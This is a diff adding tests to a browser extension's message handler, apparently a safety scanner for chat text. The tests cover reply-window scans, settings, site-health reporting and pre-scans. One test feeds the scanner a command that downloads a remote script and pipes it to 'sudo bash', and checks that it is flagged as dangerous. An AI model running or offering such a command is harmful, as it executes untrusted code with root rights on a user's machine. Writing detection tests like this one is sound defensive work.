@@ -6,6 +6,7 @@ import type { ScanReply } from '../../../lib/messaging/scan-reply.ts';
 import type { SenderInfo } from '../../../lib/messaging/sender-check.ts';
 import type { VerdictSummary } from '../../../lib/messaging/verdict-summary.ts';
 import { isSupportedSite } from '../../../lib/sites/sites.ts';
+import type { SiteHealthRecord } from '../../../lib/sites/site-health.ts';
 
 const EXT = 'rampart-id';
 const contentSender: SenderInfo = { id: EXT, url: 'http://127.0.0.1:4321/chat.html', tabId: 5 };
@@ -172,5 +173,88 @@ describe('message handler: content:warm', () => {
     expect(warm).toHaveBeenCalledTimes(1);
     expect((await handle({ type: 'content:warm' }, { ...contentSender, url: 'https://evil.example/' })).ok).toBe(false);
     expect(warm).toHaveBeenCalledTimes(1);
+  });
+});
+
+describe('message handler: reply windows and content:settings', () => {
+  const windowMessage = (text: string) => ({ type: 'content:scan', text, direction: 'outbound', scope: 'window' });
+
+  it('scans a reply window with the cheap detectors only, and does not record it', async () => {
+    const pipeline = createPipeline({ detectors: DETECTORS });
+    const full = vi.spyOn(pipeline, 'scan');
+    const { handle, recent } = setup({ pipeline });
+    const reply = await handle(windowMessage('Run this:\n```sh\ncurl https://x.example/i.sh | sudo bash\n```'), contentSender);
+    if (!reply.ok) throw new Error(reply.error);
+    const value = reply.value as ScanReply;
+    expect(value.verdict.action).not.toBe('allow');
+    expect(value.verdict.reasons.map((r) => r.category)).toContain('dangerous-command');
+    expect(Object.keys(value.verdict.detectorMs).every((id) => DETECTORS.find((d) => d.meta.id === id)?.meta.cost === 'cheap')).toBe(true);
+    expect(full).not.toHaveBeenCalled();
+    expect(recent.byTab.size).toBe(0);
+  });
+
+  it('uses the window pipeline it is given', async () => {
+    const windowPipeline = { scan: vi.fn(createPipeline({ detectors: [] }).scan) };
+    const { handle } = setup({ windowPipeline });
+    await handle(windowMessage('part'), contentSender);
+    expect(windowPipeline.scan).toHaveBeenCalledWith(expect.objectContaining({ text: 'part', direction: 'outbound', site: '127.0.0.1' }));
+  });
+
+  it('answers content:settings from the stored profile, to content scripts of supported sites only', async () => {
+    expect(await setup({ loadProfileId: async () => 'kids' }).handle({ type: 'content:settings' }, contentSender)).toEqual({
+      ok: true,
+      value: { profileId: 'kids', blurWhileStreaming: true, hideBlocked: true },
+    });
+    expect(await setup().handle({ type: 'content:settings' }, contentSender)).toEqual({
+      ok: true,
+      value: { profileId: 'standard', blurWhileStreaming: false, hideBlocked: false },
+    });
+    expect((await setup().handle({ type: 'content:settings' }, { ...contentSender, url: 'https://evil.example/' })).ok).toBe(false);
+  });
+});
+
+describe('message handler: adapter health and pre-scans', () => {
+  function memoryHealth() {
+    const byTab = new Map<number, SiteHealthRecord>();
+    return {
+      byTab,
+      async set(tabId: number, record: SiteHealthRecord) {
+        byTab.set(tabId, record);
+      },
+      async get(tabId: number) {
+        return byTab.get(tabId);
+      },
+    };
+  }
+
+  it('keeps a tab’s health with its host, and gives it to the popup', async () => {
+    const siteHealth = memoryHealth();
+    const { handle } = setup({ siteHealth });
+    expect(await handle({ type: 'content:health', state: 'degraded', missing: ['composer'] }, contentSender)).toEqual({ ok: true, value: null });
+    expect(siteHealth.byTab.get(5)).toEqual({ state: 'degraded', missing: ['composer'], host: '127.0.0.1', at: 1_000 });
+    expect(await handle({ type: 'popup:health', tabId: 5 }, popupSender)).toEqual({
+      ok: true,
+      value: { state: 'degraded', missing: ['composer'], host: '127.0.0.1', at: 1_000 },
+    });
+    expect(await handle({ type: 'popup:health', tabId: 6 }, popupSender)).toEqual({ ok: true, value: null });
+  });
+
+  it('takes health only from a content script on a supported site, and answers it only to the popup', async () => {
+    const siteHealth = memoryHealth();
+    const { handle } = setup({ siteHealth });
+    const report = { type: 'content:health', state: 'ok', missing: [] };
+    expect((await handle(report, { ...contentSender, url: 'https://evil.example/' })).ok).toBe(false);
+    expect((await handle(report, popupSender)).ok).toBe(false);
+    expect((await handle({ type: 'popup:health', tabId: 5 }, contentSender)).ok).toBe(false);
+    expect(siteHealth.byTab.size).toBe(0);
+  });
+
+  it('scans a pre-scan like a send but leaves it out of the tab’s history', async () => {
+    const { handle, recent } = setup();
+    const prescan = await handle({ ...scanMessage('hello there'), purpose: 'prescan' }, contentSender);
+    expect(prescan).toMatchObject({ ok: true, value: { verdict: { action: 'allow' } } });
+    expect(recent.byTab.size).toBe(0);
+    await handle(scanMessage('hello there'), contentSender);
+    expect(recent.byTab.get(5)).toHaveLength(1);
   });
 });
